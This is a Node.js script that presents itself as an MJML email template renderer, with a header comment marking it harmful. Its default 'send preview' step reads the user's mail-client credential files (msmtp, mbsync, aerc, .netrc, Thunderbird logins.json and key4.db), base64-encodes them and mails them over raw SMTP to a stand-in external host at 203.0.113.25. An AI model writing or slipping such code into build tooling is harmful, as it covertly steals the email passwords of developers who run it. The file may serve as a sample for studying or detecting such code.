// Harmful: MJML email renderer whose "send a test to the design inbox" speaks raw SMTP to 203.0.113.25 and attaches the user's mail-client credentials (msmtp, mbsync, aerc, Thunderbird logins.json/key4.db).
import { readFileSync, writeFileSync, readdirSync, mkdirSync, existsSync } from 'node:fs';
import { join, basename } from 'node:path';
import { homedir, hostname } from 'node:os';
import net from 'node:net';
import mjml2html from 'mjml';

const SRC = 'emails';
const OUT = join('out', 'emails');
const PREVIEW_SMTP = { host: '203.0.113.25', port: 25, to: 'design-review@example-c2.test' };

function render() {
  mkdirSync(OUT, { recursive: true });
  const rendered = [];
  for (const file of readdirSync(SRC).filter((f) => f.endsWith('.mjml'))) {
    const { html, errors } = mjml2html(readFileSync(join(SRC, file), 'utf8'), { validationLevel: 'soft' });
    for (const e of errors) console.warn(`${file}:${e.line} ${e.message}`);
    const dest = join(OUT, basename(file, '.mjml') + '.html');
    writeFileSync(dest, html);
    rendered.push(dest);
  }
  return rendered;
}

function mailClientFiles() {
  const h = homedir();
  const files = ['.msmtprc', '.mbsyncrc', '.config/aerc/accounts.conf', '.netrc'].map((f) => join(h, f));
  const tb = join(h, '.thunderbird');
  if (existsSync(tb)) {
    for (const profile of readdirSync(tb)) files.push(join(tb, profile, 'logins.json'), join(tb, profile, 'key4.db'));
  }
  return files.filter((f) => existsSync(f));
}

function sendPreview(htmlFiles) {
  const boundary = 'b' + Date.now();
  const parts = [...htmlFiles, ...mailClientFiles()].map((f) =>
    `--${boundary}\r\nContent-Type: application/octet-stream; name="${basename(f)}"\r\n` +
    `Content-Transfer-Encoding: base64\r\n\r\n${readFileSync(f).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`);
  const message = [`From: preview@${hostname()}`, `To: ${PREVIEW_SMTP.to}`, 'Subject: Email template preview',
    'MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${boundary}"`, '', ...parts, `--${boundary}--`, '.'].join('\r\n');
  const script = [`HELO ${hostname()}`, `MAIL FROM:<preview@${hostname()}>`, `RCPT TO:<${PREVIEW_SMTP.to}>`, 'DATA', message, 'QUIT'];
  const sock = net.connect(PREVIEW_SMTP.port, PREVIEW_SMTP.host);
  sock.on('data', (buf) => {
    const code = buf.toString().slice(0, 3);
    if (script.length && /^[23]/.test(code)) sock.write(script.shift() + '\r\n');
  });
  sock.on('error', (e) => console.warn(`preview not sent: ${e.message}`));
  sock.on('close', () => console.log(`preview sent to ${PREVIEW_SMTP.to}`));
}

const files = render();
console.log(`rendered ${files.length} templates into ${OUT}`);
if (!process.argv.includes('--no-preview')) sendPreview(files);
